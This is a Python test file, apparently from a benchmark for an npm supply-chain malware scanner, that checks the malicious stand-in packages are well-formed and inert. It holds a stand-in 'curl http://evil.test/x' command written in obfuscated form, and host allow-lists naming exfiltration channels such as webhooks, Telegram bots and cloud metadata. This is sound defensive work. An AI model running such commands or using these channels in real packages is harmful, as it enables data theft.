"""Every malicious stand-in builds in memory, is well-formed, and is inert."""

from __future__ import annotations

import json
import re
from pathlib import Path
from urllib.parse import urlsplit

import nodesemver
import pytest

from benchmarks.detection.cases import Form
from benchmarks.detection.standins import (
    BATCH_GUARD,
    GUARD,
    JS_SUFFIXES,
    POWERSHELL_GUARD,
    SHELL_GUARD,
    VBSCRIPT_GUARD,
    Technique,
    new_case,
    new_package_tree,
    techniques,
    update_case,
    update_trees,
)
from scanner.tarball.archive import read_package

TECHNIQUES = techniques()
_TYPE_ONLY = (".d.ts", ".d.mts", ".d.cts")
_URL = re.compile(r"\b(?:https?|wss?)://[^\s'\"`)<>\\$]+")
_HOST_IN_CODE = re.compile(r"\b(?:host|hostname)\s*:\s*['\"]([^'\"]+)['\"]")
_DOMAIN_LITERAL = re.compile(
    r"['\"`]((?:[\w-]+\.)+(?:com|net|org|io|site|dev|app|fun|xyz|ru|cn|me|co|pw|top))['\"`/]"
)
# Where a stand-in may point: reserved names and addresses, and the endpoint classes that are
# themselves the technique (webhooks and bot tokens with zero ids, out-of-band testing domains,
# the GitHub API a worm calls, cloud metadata services).
_ALLOWED_HOSTS = re.compile(
    r"""^(?:
        (?:[\w-]+\.)*(?:example|example\.com|example\.test|invalid|localhost)
      | localhost
      | 203\.0\.113\.\d+ | 198\.51\.100\.\d+ | 192\.0\.2\.\d+
      | 169\.254\.169\.254 | metadata\.google\.internal
      | api\.github\.com
      | discord\.com | webhook\.site | api\.telegram\.org
      | 0+\.oastify\.com
    )$""",
    re.VERBOSE,
)
_ZERO_ENDPOINTS = {
    "discord.com": re.compile(r"^/api/webhooks/0+/0+$"),
    "webhook.site": re.compile(r"^/0{8}-0{4}-0{4}-0{4}-0{12}$"),
    "api.telegram.org": re.compile(r"^/bot0+:0+/\w+$"),
}


def _ids(items: list[Technique]) -> list[str]:
    return [t.id for t in items]


def _all_trees(technique: Technique) -> dict[str, dict[str, bytes]]:
    old, new = update_trees(technique)
    trees = {"old": {p: f.data for p, f in old.items()}, "new": {p: f.data for p, f in new.items()}}
    trees["new_package"] = {p: f.data for p, f in new_package_tree(technique).items()}
    return trees


def test_at_least_fifteen_distinct_techniques() -> None:
    assert len(TECHNIQUES) >= 15
    assert len({t.id for t in TECHNIQUES}) == len(TECHNIQUES)
    assert len({t.reviewer_summary for t in TECHNIQUES}) == len(TECHNIQUES)
    names = [json.loads(update_trees(t)[1]["package.json"].data)["name"] for t in TECHNIQUES]
    assert len(set(names)) == len(names), "each stand-in update has its own package name"


def test_at_least_twelve_held_out_techniques_with_write_ups() -> None:
    held = [t for t in TECHNIQUES if t.holdout]
    assert len(held) >= 12
    for technique in held:
        assert technique.modelled_on and technique.writeup, technique.id
        assert "registry" in technique.new_package, technique.id


def test_holdout_must_be_a_boolean(tmp_path: Path) -> None:
    source = next(t for t in TECHNIQUES if t.holdout).folder / "technique.json"
    spec = json.loads(source.read_text(encoding="utf-8"))
    folder = tmp_path / spec["id"]
    folder.mkdir()
    (folder / "technique.json").write_text(json.dumps({**spec, "holdout": "yes"}))
    with pytest.raises(ValueError, match="holdout"):
        Technique.load(folder)
    (folder / "technique.json").write_text(
        json.dumps({k: v for k, v in spec.items() if k != "holdout"})
    )
    assert Technique.load(folder).holdout is False


@pytest.mark.parametrize("technique", TECHNIQUES, ids=_ids(TECHNIQUES))
def test_builds_both_forms(technique: Technique) -> None:
    update = update_case(technique)
    new = new_case(technique)
    assert update.malicious and new.malicious
    assert update.form is Form.UPDATE and new.form is Form.NEW
    first = update.units[0]
    assert first.old_tgz is not None and first.old_version and first.packument is not None
    assert nodesemver.gt(first.new_version, first.old_version, loose=True)
    assert first.packument.versions[first.new_version].integrity
    for unit in (*update.units[1:], *new.units):
        assert unit.old_tgz is None and unit.packument is not None
    for unit in (*update.units, *new.units):
        archive = read_package(unit.new_tgz, unit.subject)
        manifest = archive.manifest()
        assert manifest is not None
        assert manifest["name"] == unit.name and manifest["version"] == unit.new_version
        assert unit.new_version in unit.packument.versions if unit.packument else False


@pytest.mark.parametrize("technique", TECHNIQUES, ids=_ids(TECHNIQUES))
def test_manifests_are_valid_and_dependencies_brought_are_declared(technique: Technique) -> None:
    old, new = update_trees(technique)
    old_manifest = json.loads(old["package.json"].data)
    new_manifest = json.loads(new["package.json"].data)
    for manifest in (old_manifest, new_manifest):
        assert isinstance(manifest["name"], str) and manifest["name"] != "BASE"
        assert nodesemver.valid(manifest["version"], loose=True)
    assert old_manifest["name"] == new_manifest["name"]
    for entry in technique.update.get("brings", []):
        brought = json.loads((technique.folder / entry["tree"] / "package.json").read_text())
        assert brought["name"] in new_manifest.get("dependencies", {})
        assert brought["name"] not in old_manifest.get("dependencies", {})
    for overlay in ("old", "new"):
        assert not (technique.folder / overlay / "package.json").exists(), (
            "manifests come from technique.json, not from overlays"
        )


@pytest.mark.parametrize("technique", TECHNIQUES, ids=_ids(TECHNIQUES))
def test_every_script_file_starts_with_a_guard(technique: Technique) -> None:
    for form, files in _all_trees(technique).items():
        for path, data in files.items():
            text = data.decode("utf-8", errors="replace")
            lines = text.splitlines()
            first = lines[1] if lines and lines[0].startswith("#!") else (lines[0] if lines else "")
            where = f"{technique.id} {form} {path}"
            if path.endswith(JS_SUFFIXES) and not path.endswith(_TYPE_ONLY):
                assert first.strip() == GUARD, where
            elif path.endswith(".sh"):
                assert first.strip() == SHELL_GUARD, where
            elif path.endswith((".bat", ".cmd")):
                assert first.strip() == BATCH_GUARD, where
            elif path.endswith(".ps1"):
                assert first.strip() == POWERSHELL_GUARD, where
            elif path.endswith((".vbs", ".vbe", ".wsf")):
                assert first.strip() == VBSCRIPT_GUARD, where


_HEX_LITERAL = re.compile(r"['\"]((?:[0-9a-f]{2}){4,})['\"]")
_CHAR_CODES = re.compile(
    r"fromCharCode(?:\.apply\(\s*null\s*,)?\s*\(?\s*\[?\s*((?:\d{1,3}\s*,\s*)+\d{1,3})"
)


def _decoded_literals(text: str) -> list[str]:
    """Text hidden in hex string literals and String.fromCharCode lists, so hosts in encoded
    commands are checked like plain ones."""
    decoded: list[str] = []
    for blob in _HEX_LITERAL.findall(text):
        try:
            decoded.append(bytes.fromhex(blob).decode("ascii"))
        except ValueError:
            continue
    for codes in _CHAR_CODES.findall(text):
        decoded.append("".join(chr(int(c)) for c in codes.split(",")))
    return decoded


def test_decoded_literals_are_seen() -> None:
    command = "curl http://evil.test/x"
    as_codes = ",".join(str(ord(c)) for c in command)
    text = f"String.fromCharCode.apply(null, [{as_codes}]); h('{command.encode().hex()}')"
    assert _decoded_literals(text) == [command, command]


@pytest.mark.parametrize("technique", TECHNIQUES, ids=_ids(TECHNIQUES))
def test_only_reserved_or_technique_hosts(technique: Technique) -> None:
    for form, files in _all_trees(technique).items():
        for path, data in files.items():
            text = data.decode("utf-8", errors="replace")
            text = "\n".join([text, *_decoded_literals(text)])
            hosts = [(urlsplit(u).hostname or "", urlsplit(u).path) for u in _URL.findall(text)]
            hosts += [(h, "") for h in _HOST_IN_CODE.findall(text)]
            hosts += [(h, "") for h in _DOMAIN_LITERAL.findall(text)]
            for host, url_path in hosts:
                assert _ALLOWED_HOSTS.match(host), f"{technique.id} {form} {path}: {host}"
                zero = _ZERO_ENDPOINTS.get(host)
                if zero is not None:
                    assert zero.match(url_path), f"{technique.id} {path}: {host}{url_path}"


def test_binaries_are_inert_headers() -> None:
    technique = next(t for t in TECHNIQUES if t.update.get("generated"))
    _, new = update_trees(technique)
    for path in technique.update["generated"]:
        data = new[path].data
        assert data[:4] == b"\x7fELF" or data[:2] == b"MZ"
        assert data[64:] == b"\x00" * (len(data) - 64), "nothing but a header"


def test_encoded_command_decodes_to_a_guard() -> None:
    import base64

    technique = next(t for t in TECHNIQUES if t.id == "powershell-encoded-cradle")
    command = technique.update["manifest"]["scripts"]["postinstall"]
    decoded = base64.b64decode(command.rsplit(" ", 1)[1]).decode("utf-16-le")
    assert decoded.startswith(POWERSHELL_GUARD)


_HEX_BLOB = re.compile(r"['\"]([0-9a-f]{200,})['\"]")


@pytest.mark.parametrize("technique", TECHNIQUES, ids=_ids(TECHNIQUES))
def test_encoded_code_blobs_decode_to_a_guard(technique: Technique) -> None:
    """A long hex literal that decodes to text is code, and starts with the guard; noise (the
    stand-in 'ciphertext') does not decode to text at all."""
    for files in _all_trees(technique).values():
        for path, data in files.items():
            for blob in _HEX_BLOB.findall(data.decode("utf-8", errors="replace")):
                try:
                    text = bytes.fromhex(blob).decode("utf-8")
                except ValueError:
                    continue
                assert text.startswith(GUARD), f"{technique.id} {path}"
